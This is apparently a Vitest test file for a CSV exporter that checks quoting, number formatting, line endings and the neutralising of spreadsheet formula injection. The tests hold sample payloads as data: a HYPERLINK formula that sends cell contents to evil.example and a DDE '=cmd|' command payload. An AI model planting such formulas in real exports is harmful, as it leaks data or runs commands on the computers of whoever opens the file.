import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ResultColumn, SqlValue } from '../engine/types';
import { isFormulaLike, toCsv, type CsvOptions } from './csv';

type Result = { columns: ResultColumn[]; rows: SqlValue[][] };

const hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"Click")';

/** Reads CSV back the way a careful program would, and drops the empty record after the last line ending. */
function parseCsv(csv: string, options: CsvOptions = {}): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv, {
    header: false,
    delimiter: options.delimiter ?? ',',
    newline: options.lineEnding ?? '\r\n'
  });
  expect(errors).toEqual([]);
  expect(data.at(-1)).toEqual(['']);
  return data.slice(0, -1);
}

function textColumn(values: string[], name = 'value'): Result {
  return { columns: [{ name, type: 'text' }], rows: values.map((value) => [value]) };
}

describe('toCsv', () => {
  it('writes a header and one record per row, with a BOM and CRLF by default', () => {
    const result: Result = {
      columns: [
        { name: 'n', type: 'real' },
        { name: 't', type: 'text' },
        { name: 'b', type: 'blob' },
        { name: 'm', type: 'mixed' }
      ],
      rows: [
        [-5, '-5', new Uint8Array([0x0a, 0xff]), null],
        [0.1, '', new Uint8Array(), 9007199254740993n],
        [1e3, null, null, '=1+1']
      ]
    };
    expect(toCsv(result)).toBe(
      '\uFEFFn,t,b,m\r\n' + `-5,"'-5",0x0aff,\r\n` + '0.1,"",0x,9007199254740993\r\n' + `1000,,,"'=1+1"\r\n`
    );
  });

  it('writes only the header for a result without rows', () => {
    expect(toCsv({ columns: [{ name: 'a', type: 'null' }], rows: [] }, { bom: false })).toBe('a\r\n');
  });

  it.each([
    [true, '\uFEFFa\r\nx\r\n'],
    [false, 'a\r\nx\r\n']
  ])('starts with a BOM only when asked (bom: %s)', (bom, expected) => {
    expect(toCsv(textColumn(['x'], 'a'), { bom })).toBe(expected);
  });

  it('writes LF line endings when asked, also between header and rows', () => {
    expect(toCsv(textColumn(['x', 'y'], 'a'), { bom: false, lineEnding: '\n' })).toBe('a\nx\ny\n');
  });

  it('tells NULL (empty field) from the empty text (quoted)', () => {
    const csv = toCsv(
      {
        columns: [
          { name: 'a', type: 'text' },
          { name: 'b', type: 'text' }
        ],
        rows: [[null, '']]
      },
      { bom: false }
    );
    expect(csv).toBe('a,b\r\n,""\r\n');
  });

  it('writes a NULL row of a one-column result as "", not as an empty line that readers skip', () => {
    const csv = toCsv(
      { columns: [{ name: 'a', type: 'integer' }], rows: [[1], [null], [2]] },
      { bom: false }
    );
    expect(csv).toBe('a\r\n1\r\n""\r\n2\r\n');
  });

  it.each(['', '"', '\n', '\r\n', ';"'])('refuses the delimiter %j', (delimiter) => {
    expect(() => toCsv(textColumn(['x']), { delimiter })).toThrow(RangeError);
  });
});

describe('toCsv numbers', () => {
  /** [stored value, field] — numbers stay unquoted and unprefixed, so spreadsheets read them as numbers. */
  const numbers: [number | bigint, string][] = [
    [-5, '-5'],
    [1e3, '1000'],
    [0.1, '0.1'],
    [-0.25, '-0.25'],
    [-0, '0'],
    [1e21, '1000000000000000000000'],
    [1e-7, '0.0000001'],
    [9007199254740993n, '9007199254740993'],
    [-9223372036854775808n, '-9223372036854775808'],
    [9223372036854775807n, '9223372036854775807']
  ];

  it.each(numbers)('writes %s as the plain number %s', (value, field) => {
    const csv = toCsv({ columns: [{ name: 'x', type: 'integer' }], rows: [[value]] }, { bom: false });
    expect(csv).toBe(`x\r\n${field}\r\n`);
  });

  it.each(numbers)('reads %s back as a number when the reader types values', (value, field) => {
    const csv = toCsv({ columns: [{ name: 'x', type: 'real' }], rows: [[value]] }, { bom: false });
    const { data } = Papa.parse<unknown[]>(csv, { header: false, dynamicTyping: true, skipEmptyLines: true });
    const read = data[1][0];
    // papaparse types only numbers within ±2^53 and keeps larger ones as their text, which must be exact.
    if (typeof value === 'bigint' || Math.abs(value) > Number.MAX_SAFE_INTEGER) expect(read).toBe(field);
    else expect(read).toBe(value === 0 ? 0 : value);
  });

  it('writes the text "-5" as neutralised text: it is text in the database', () => {
    const csv = toCsv(textColumn(['-5', '1e3', '0.1'], 'x'), { bom: false });
    expect(csv).toBe(`x\r\n"'-5"\r\n1e3\r\n0.1\r\n`);
  });

  it('writes ±Infinity as text (neutralised when negative) and NaN, which SQLite stores as NULL, as empty', () => {
    const csv = toCsv({ columns: [{ name: 'x', type: 'real' }], rows: [[Infinity], [-Infinity], [NaN]] });
    expect(parseCsv(csv)).toEqual([['x'], ['Infinity'], ["'-Infinity"], ['']]);
  });
});

describe('toCsv formula neutralising', () => {
  const triggers = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)'
  ];
  const variants = triggers.flatMap((text) => [
    text,
    `${text}\nnote`,
    `${text}\r\nnote`,
    ` ${text}`,
    `\u3000${text}`,
    `\n${text}`
  ]);

  it.each(variants)('prefixes and quotes %j', (text) => {
    const csv = toCsv(textColumn([text]), { bom: false });
    expect(csv.startsWith(`value\r\n"'`)).toBe(true);
    expect(parseCsv(csv)[1]).toEqual([`'${text}`]);
  });

  it.each([hyperlink, `${hyperlink}\nnote`, "=cmd|'/c calc'!A0"])('neutralises the payload %j', (text) => {
    expect(parseCsv(toCsv(textColumn([text])))[1]).toEqual([`'${text}`]);
  });

  it('neutralises column names, which are text too', () => {
    const csv = toCsv({ columns: [{ name: "=cmd|'/c calc'!A0", type: 'integer' }], rows: [[1]] });
    expect(parseCsv(csv)).toEqual([["'=cmd|'/c calc'!A0"], ['1']]);
  });

  it('leaves a formula on a later line of a cell alone: the cell starts with text', () => {
    expect(parseCsv(toCsv(textColumn(['note\n=1+1'])))[1]).toEqual(['note\n=1+1']);
  });

  it('raw export writes text exactly as stored', () => {
    const result: Result = {
      columns: [
        { name: '=head', type: 'text' },
        { name: 'n', type: 'integer' }
      ],
      rows: [
        ['=1+1', -5],
        ['-5', 5],
        [' =1+1', 0]
      ]
    };
    expect(toCsv(result, { raw: true, bom: false })).toBe('=head,n\r\n=1+1,-5\r\n-5,5\r\n" =1+1",0\r\n');
  });
});

describe('toCsv round trip through papaparse', () => {
  const tricky = [
    'plain',
    'say "hi"',
    '""',
    '"',
    'a,b',
    'a;b',
    'a\tb',
    'a|b',
    'line 1\r\nline 2',
    'line 1\nline 2',
    'cr\ronly',
    'trailing newline\n',
    ' padded ',
    '\tleading tab',
    "it's",
    "'=already quoted",
    '',
    'emoji 😀 👩‍👩‍👧‍👦 🇩🇪',
    'مشتری عزیز، سلام',
    'Straße / 顧客 / Ürün',
    'NUL\0inside',
    '=1+1',
    ' =1+1',
    '＝1+1',
    `${hyperlink}\nnote`,
    'note\n=1+1',
    '-5',
    '0x0aff'
  ];
  const settings: CsvOptions[] = [',', ';', '\t', '|'].flatMap((delimiter) =>
    (['\r\n', '\n'] as const).flatMap((lineEnding) =>
      [false, true].map((raw) => ({ delimiter, lineEnding, raw, bom: !raw }))
    )
  );

  it.each(settings)('keeps every text with %j', (options) => {
    const result: Result = {
      columns: [
        { name: 'text', type: 'text' },
        { name: 'name, "quoted"\r\n', type: 'text' },
        { name: '顧客 مشتری', type: 'integer' }
      ],
      rows: tricky.map((text, i) => [text, text.split('').reverse().join(''), i])
    };
    const parsed = parseCsv(toCsv(result, options), options);
    const isPrefixed = (text: string): boolean => !options.raw && isFormulaLike(text);
    const expected = (text: string): string => (isPrefixed(text) ? `'${text}` : text);
    expect(parsed[0]).toEqual(result.columns.map((column) => column.name));
    expect(parsed.slice(1)).toEqual(
      result.rows.map(([a, b, i]) => [expected(a as string), expected(b as string), `${i}`])
    );
    const unprefixed = parsed.slice(1).map(([a], i) => (isPrefixed(tricky[i]) ? a.slice(1) : a));
    expect(unprefixed).toEqual(tricky);
  });
});
